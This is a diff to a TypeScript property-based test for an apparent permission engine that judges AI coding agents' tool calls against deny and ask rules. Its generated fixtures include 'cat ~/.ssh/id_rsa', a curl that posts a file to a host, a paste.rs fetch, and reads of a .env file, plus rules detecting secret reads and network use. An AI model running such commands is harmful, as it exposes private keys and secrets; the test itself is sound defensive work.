@@ -1,3 +1,4 @@
+import fc from 'fast-check';
 import { expect, test } from 'vitest';
 import { EMPTY_RECORD } from '../../../main/audit/record.ts';
 import { joined, shareOf, Trial } from '../../../main/rulebook/trial/trial.ts';
@@ -20,15 +21,16 @@ function rulesOf(...texts: readonly string[]): RuleSet {
   return rules;
 }
 
-function trial(before: RuleSet, after: RuleSet): Trial {
-  return new Trial(before, after, {
+function trial(before: RuleSet, after: RuleSet, mostKept?: number): Trial {
+  const machine = {
     os: 'linux',
     home: '/home/ana',
     user: 'ana',
     files: memoryFiles({ os: 'linux', cwd: '/home/ana/app' }),
     perch: { paths: [] },
     grammars: undefined,
-  });
+  } as const;
+  return new Trial(before, after, machine, mostKept);
 }
 
 let id = 0;
@@ -108,4 +110,56 @@ test('comes to the same when several threads share it', () => {
   expect(taken).toEqual(new Set([0, 1]));
   expect(whole.result().changes.length).toBeGreaterThan(20);
   expect(joined(shares.map((share) => share.result()))).toEqual(whole.result());
+});
+
+test('comes to the same when nothing is kept of the calls that come again', () => {
+  const commands = ['ls', 'git status', 'cat ~/.ssh/id_rsa', 'curl -d @a https://example.org', 'echo hi > notes.txt'];
+  const tools = fc.oneof(
+    fc.record({ command: fc.constantFrom(...commands), description: fc.constantFrom('', 'one', 'two') }),
+    fc.record({ command: fc.constantFrom(...commands) }),
+    fc.record({ file_path: fc.constantFrom('a.ts', '/home/ana/.env', 'src/b.ts') }),
+    fc.record({ file_path: fc.constantFrom('a.ts', 'b.ts'), content: fc.constantFrom('', 'x') }),
+    fc.record({ url: fc.constantFrom('https://example.org/a', 'https://paste.rs') }),
+    fc.record({ description: fc.constantFrom('one', 'two'), prompt: fc.constant('go') }),
+  );
+  const made = fc.record({
+    tool: fc.constantFrom('Bash', 'Read', 'Write', 'WebFetch', 'Task', 'mcp__files__show'),
+    input: tools,
+    kind: fc.constantFrom('shell' as const, 'read' as const, '' as const),
+    session: fc.constantFrom('s1', 's2', 's3'),
+    cwd: fc.constantFrom('/home/ana/app', '/home/ana'),
+    decision: fc.constantFrom('defer' as const, 'deny' as const),
+  });
+  const conditions = [
+    ...['session.calls >= 3', 'session.read_secret = true', 'session.hosts intersects (example.org)'],
+    ...['session.written intersects (/home/ana/app/notes.txt)', 'session.denied_rules intersects (Old)'],
+    ...['cmd.programs intersects (git)', 'file.kinds intersects (env_file)', 'mcp.args[description] = one'],
+    ...['net.is_public = true and session.touched_network = true', 'tool.input contains two', 'tool.use_id = u'],
+  ];
+  const rules = fc
+    .subarray(conditions)
+    .map((chosen) =>
+      rulesOf(...chosen.map((condition, index) => rule(`R${index}`, condition, index % 2 ? 'ask' : 'deny'))),
+    );
+  fc.assert(
+    fc.property(rules, rules, fc.array(made, { maxLength: 40 }), (before, after, calls) => {
+      const [none, few, many] = [0, 3, 100].map((most) => trial(before, after, most));
+      for (const { tool, input, ...rest } of calls) {
+        const denied = {
+          rule: 'Old',
+          effect: 'deny',
+          priority: 'WARNING',
+          tags: [],
+          description: '',
+          output: '',
+          pack: '',
+        };
+        const record = call('claude-code', tool, input, { ...rest, rules: rest.decision === 'deny' ? [denied] : [] });
+        for (const run of [none, few, many]) run?.judge(record);
+      }
+      expect(few?.result()).toEqual(none?.result());
+      expect(many?.result()).toEqual(none?.result());
+    }),
+    { numRuns: 150 },
+  );
 });
